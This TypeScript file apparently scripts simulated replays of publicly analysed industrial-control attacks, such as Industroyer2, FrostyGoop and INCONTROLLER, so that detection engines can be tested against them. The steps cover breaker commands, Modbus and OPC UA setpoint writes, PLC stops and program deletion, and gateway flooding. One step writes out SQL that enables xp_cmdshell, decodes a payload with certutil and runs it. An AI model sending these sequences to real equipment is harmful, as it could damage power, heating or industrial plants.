/** Messages of these programs by public analyses, step by step. Sources: README.md. */
import * as codesys from '#protocols/codesys-v3/testing/encode'
import * as fins from '#protocols/fins/testing/encode'
import { clock, switching } from '#protocols/iec104/testing/encode'
import { link } from '#protocols/mbus/captures/script'
import * as tds from '#protocols/mssql/testing/encode'
import { secureShell } from '../conversations/encrypted.ts'
import { begin104, CAUSE, type Iec104Conversation, interrogation, position } from '../conversations/iec104.ts'
import { MODBUS_PORT, ModbusConversation } from '../conversations/modbus.ts'
import { beginUa } from '../conversations/opcua.ts'
import { Connection } from '../network/connection.ts'
import type { Host } from '../network/host.ts'
import { milliseconds, seconds, type Task } from '../network/scheduler.ts'
import type { Step } from '../riverbend/step.ts'
import type { World } from '../riverbend/world.ts'
import { ends, FINS_PORT, heatingUnit, MBUS_PORT, NODES } from './ordinary.ts'
import * as site from './site.ts'

export interface AttackScript {
  readonly name: string
  readonly steps: readonly Step[]
}

const CODESYS_PORT = 11_740
const UA_PORT = 4840
/** IEC 60870-5-101 §7.3.2.1. */
const SINGLE_COMMAND = 45
/** Bad_UserAccessDenied: OPC 10000-4 table 178. */
const DENIED = 0x801f_0000

function step(
  id: string,
  technique: string,
  says: string,
  { actor, victims, play, isStatistical = false }: Pick<Step, 'actor' | 'victims' | 'play' | 'isStatistical'>,
): Step {
  return { id, kind: 'A', technique, says, actor, victims, play, isStatistical, engines: ['policy'] }
}

function singleCommand(address: number, isOn: boolean, isSelect: boolean, cause: number) {
  const objects = [{ address, elements: switching(isOn ? 1 : 0, isSelect) }]
  return { type: SINGLE_COMMAND, cause, commonAddress: 1, objects }
}

/** Selected, executed, and both confirmed. */
function* command104(talk: Iec104Conversation, address: number, isOn: boolean): Task<void> {
  for (const isSelect of [true, false])
    yield* talk.ask(
      singleCommand(address, isOn, isSelect, CAUSE.activation),
      singleCommand(address, isOn, isSelect, CAUSE.confirmation),
    )
}

function* interrogate104(talk: Iec104Conversation): Task<void> {
  yield* talk.ask(
    interrogation(1, CAUSE.activation),
    interrogation(1, CAUSE.confirmation),
    position(1, 2001, 2, CAUSE.interrogated),
    interrogation(1, CAUSE.termination),
  )
}

const OF_INDUSTROYER = { actor: site.engineering, victims: site.stations }

/** Industroyer2: TESTFR, STARTDT and interrogation at each listed station; then one command for each listed address. */
const industroyer2: AttackScript = {
  name: 'industroyer2',
  steps: [
    step('stations-interrogated', 'T0801', 'process values|session|control centre|master', {
      ...OF_INDUSTROYER,
      *play(world) {
        for (const station of site.stations) {
          const talk = yield* begin104(world, site.engineering, station)
          yield* talk.test()
          yield* interrogate104(talk)
          yield* talk.connection.close()
          yield seconds(1)
        }
      },
    }),
    step('breakers-commanded', 'T1692.001', 'command|switch|operat', {
      ...OF_INDUSTROYER,
      *play(world) {
        for (const station of site.stations) {
          const talk = yield* begin104(world, site.engineering, station)
          for (let address = 1101; address < 1109; address++) {
            yield* command104(talk, address, false)
            yield milliseconds(200)
          }
          yield* talk.connection.close()
        }
      },
    }),
    step('breakers-toggled', 'T0806', 'command|switch|toggl|again', {
      ...OF_INDUSTROYER,
      *play(world) {
        const talk = yield* begin104(world, site.engineering, site.stations[0]!)
        for (let i = 0; i < 12; i++) {
          yield* command104(talk, 1101, i % 2 === 1)
          yield milliseconds(300)
        }
        yield* talk.connection.close()
      },
    }),
  ],
}

const OF_FROSTYGOOP = { actor: site.outside, victims: site.heating }

/** FrostyGoop: function codes 3, 6 and 16 of Modbus from outside, by a list of addresses. */
const frostyGoop: AttackScript = {
  name: 'frostygoop',
  steps: [
    step('registers-read', 'T0801', 'process values|internet|read', {
      ...OF_FROSTYGOOP,
      *play(world) {
        for (const host of site.heating) {
          const talk = new ModbusConversation(yield* world.connect(site.outside, host, MODBUS_PORT))
          for (let i = 0; i < 4; i++) yield* talk.read({ ...heatingUnit(world, host), address: 53_360 + i })
          yield* talk.connection.close()
        }
      },
    }),
    step('register-written', 'T0836', 'set point|parameter|command|written', {
      ...OF_FROSTYGOOP,
      *play(world) {
        for (const host of site.heating) {
          const talk = new ModbusConversation(yield* world.connect(site.outside, host, MODBUS_PORT))
          yield* talk.writeRegister(1, 53_372, 0)
          yield* talk.connection.close()
          yield seconds(1)
        }
      },
    }),
    step('registers-written', 'T0836', 'set point|parameter|command|written', {
      ...OF_FROSTYGOOP,
      *play(world) {
        for (const host of site.heating) {
          const talk = new ModbusConversation(yield* world.connect(site.outside, host, MODBUS_PORT))
          yield* talk.writeRegisters(1, 53_370, [0, 0, 0, 0])
          yield* talk.connection.close()
          yield seconds(1)
        }
      },
    }),
  ],
}

function* probeUa(world: World, client: Host): Task<void> {
  for (let place = 1; place < 60; place++) {
    const ip = `${site.control.subnet}.${place}`
    if (ip === client.ip) continue
    const host = site.allHosts.find((one) => one.ip === ip)
    const isKnown = yield* world.network.whoHas(client, ip, host)
    if (isKnown && host !== undefined) yield* Connection.probe(world.network, client, { host, port: UA_PORT })
    yield milliseconds(30)
  }
}

const finsOf = (world: World, code: number, parameters?: Uint8Array, data?: Uint8Array) =>
  world.network.ask(
    { host: site.engineering, port: FINS_PORT },
    { host: site.press, port: FINS_PORT },
    fins.request({ ...ends(9), client: 21 }, code, parameters),
    () => fins.response({ ...ends(9), client: 21 }, code, 0, data),
  )

const OF_INCONTROLLER = { actor: site.engineering }

/** INCONTROLLER: TAGRUN against OPC UA, CODECALL against Modbus and CODESYS, OMSHELL against Omron. */
const incontroller: AttackScript = {
  name: 'incontroller',
  steps: [
    step('ua-servers-scanned', 'T0846', 'scan|sweep|search', {
      ...OF_INCONTROLLER,
      victims: [site.uaServer],
      play: (world) => probeUa(world, site.engineering),
    }),
    step('ua-passwords-guessed', 'T0859', 'logon|password|guess|credential', {
      ...OF_INCONTROLLER,
      victims: [site.uaServer],
      *play(world) {
        for (let i = 0; i < 14; i++) {
          const talk = yield* beginUa(world, site.engineering, site.uaServer)
          yield* talk.askEndpoints()
          yield* talk.signIn(site.engineering, 'admin', `guess-${i}`, DENIED)
          yield* talk.close()
          yield milliseconds(300)
        }
      },
    }),
    step('ua-tags-listed-and-written', 'T0836', 'set point|parameter|written|write', {
      ...OF_INCONTROLLER,
      victims: [site.uaServer],
      *play(world) {
        const talk = yield* beginUa(world, site.engineering, site.uaServer)
        yield* talk.signIn(site.engineering, 'admin', 'found')
        yield* talk.browse('ns=2;s=Boiler', NODES)
        yield* talk.write('ns=2;s=Boiler.Setpoint', 99)
        yield* talk.close()
      },
    }),
    step('modbus-identified', 'T0888', 'identif|fingerprint', {
      ...OF_INCONTROLLER,
      victims: site.heating,
      *play(world) {
        for (const host of site.heating) {
          const talk = new ModbusConversation(yield* world.connect(site.engineering, host, MODBUS_PORT))
          yield* talk.identify(heatingUnit(world, host))
          yield* talk.connection.close()
        }
      },
    }),
    step('soft-plc-stopped', 'T0858', 'stop', {
      ...OF_INCONTROLLER,
      victims: [site.softPlc],
      *play(world) {
        const connection = yield* world.connect(site.engineering, site.softPlc, CODESYS_PORT)
        yield* connection.ask(codesys.service(1, 1), codesys.service(1, 1, true))
        yield* connection.ask(codesys.service(2, 17), codesys.service(2, 17, true))
        yield* connection.close()
      },
    }),
    step('press-identified', 'T0888', 'identif|fingerprint', {
      ...OF_INCONTROLLER,
      victims: [site.press],
      *play(world) {
        yield* finsOf(world, 0x0501, Uint8Array.of(0), fins.cpuData('NX1P2-9024DT', '1.16'))
      },
    }),
    step('press-program-cleared', 'T0809', 'delet|clear', {
      ...OF_INCONTROLLER,
      victims: [site.press],
      *play(world) {
        yield* finsOf(world, 0x0308, Uint8Array.of(0xff, 0xff, 0))
      },
    }),
    step('press-reset', 'T0816', 'stop|restart|reset', {
      ...OF_INCONTROLLER,
      victims: [site.press],
      *play(world) {
        yield* finsOf(world, 0x0402)
        yield milliseconds(500)
        yield* finsOf(world, 0x0403)
      },
    }),
  ],
}

const OF_FUXNET = { actor: site.outside, victims: site.gateways }

/** Fuxnet: shells of the meter gateways from outside, frames that flood the meters' bus, and gateways that fall silent. */
const fuxnet: AttackScript = {
  name: 'fuxnet',
  steps: [
    step('gateways-entered', 'T0822', 'internet|remote|ssh', {
      ...OF_FUXNET,
      *play(world) {
        for (const server of site.gateways)
          yield* secureShell(world, site.outside, { server, requests: 30, up: [68, 1400] })
      },
    }),
    step('meters-flooded', 'T0814', 'flood|malformed|invalid|illegal|rate|requests', {
      ...OF_FUXNET,
      *play(world) {
        const random = world.random('fuxnet')
        for (const server of site.gateways) {
          const connection = yield* world.connect(site.outside, server, MBUS_PORT)
          for (let i = 0; i < 150; i++) {
            yield* connection.fromClient(
              i % 2 === 0
                ? link(`7b ${(i % 250).toString(16).padStart(2, '0')}`, true)
                : random.bytes(random.between(8, 40)),
            )
            yield milliseconds(40)
          }
          yield* connection.close()
        }
      },
    }),
    step('gateways-disabled', 'T0815', 'unanswered|silent|no traffic|stopped|unresponsive|no longer', {
      ...OF_FUXNET,
      isStatistical: true,
      *play(world) {
        yield* world.network.outage(site.gateways, 420)
      },
    }),
  ],
}

const OF_LIGHTWORK = { actor: site.historian, victims: site.stations }
const TDS_PORT = 1433
/** LIGHTWORK has eight addresses built in. */
const LIGHTWORK_ADDRESSES = [1101, 1102, 1103, 1104, 1105, 1106, 1107, 1108]
/** IEC 60870-5-101 §7.3.4.4. */
const CLOCK = 103

/** COSMICENERGY: PIEHOP starts LIGHTWORK on a database server, which switches points of stations by IEC 104 and is deleted. */
const cosmicEnergy: AttackScript = {
  name: 'cosmicenergy',
  steps: [
    step('database-shell-used', 'T0807', 'shell|command|sql', {
      actor: site.engineering,
      victims: [site.historian],
      *play(world) {
        const connection = yield* world.connect(site.engineering, site.historian, TDS_PORT)
        const say = (statement: string) =>
          connection.ask(tds.batch(statement), tds.packet('response', new Uint8Array(13).fill(0xfd, 0, 1)))
        yield* connection.ask(
          tds.packet('prelogin', tds.preloginOptions(0, 0, 2)),
          tds.packet('response', tds.preloginOptions(15, 2000, 2)),
        )
        yield* connection.fromClient(tds.login('ENGINEERING', 'sa', 'piehop'))
        yield* say("EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE")
        yield* say(
          "EXEC xp_cmdshell 'certutil -decode C:\\Windows\\Temp\\r3_iec104_control.txt r3_iec104_control.exe'",
        )
        yield* say("EXEC xp_cmdshell 'C:\\Windows\\Temp\\r3_iec104_control.exe 10.62.0.11 2404 OFF'")
        yield* connection.close()
      },
    }),
    step('stations-interrogated-by-server', 'T0801', 'process values|session|control centre|master', {
      ...OF_LIGHTWORK,
      *play(world) {
        for (const station of site.stations) {
          const talk = yield* begin104(world, site.historian, station)
          yield* interrogate104(talk)
          yield* talk.connection.close()
          yield seconds(1)
        }
      },
    }),
    step('points-switched', 'T1692.001', 'command|switch|operat', {
      ...OF_LIGHTWORK,
      *play(world) {
        for (const station of site.stations) {
          const talk = yield* begin104(world, site.historian, station)
          for (const address of LIGHTWORK_ADDRESSES) {
            const command = (cause: number) => singleCommand(address, false, false, cause)
            yield* talk.ask(command(CAUSE.activation), command(CAUSE.confirmation))
          }
          yield* talk.connection.close()
        }
      },
    }),
    step('clocks-set', 'T0836', 'clock|time', {
      ...OF_LIGHTWORK,
      *play(world) {
        for (const station of site.stations) {
          const talk = yield* begin104(world, site.historian, station)
          const sync = (cause: number) => ({
            ...{ type: CLOCK, cause, commonAddress: 1 },
            objects: [{ address: 0, elements: clock(2026, 1, 1, 0, 0, 0) }],
          })
          yield* talk.ask(sync(CAUSE.activation), sync(CAUSE.confirmation))
          yield* talk.connection.close()
        }
      },
    }),
  ],
}

export const scripts: readonly AttackScript[] = [industroyer2, frostyGoop, incontroller, fuxnet, cosmicEnergy]
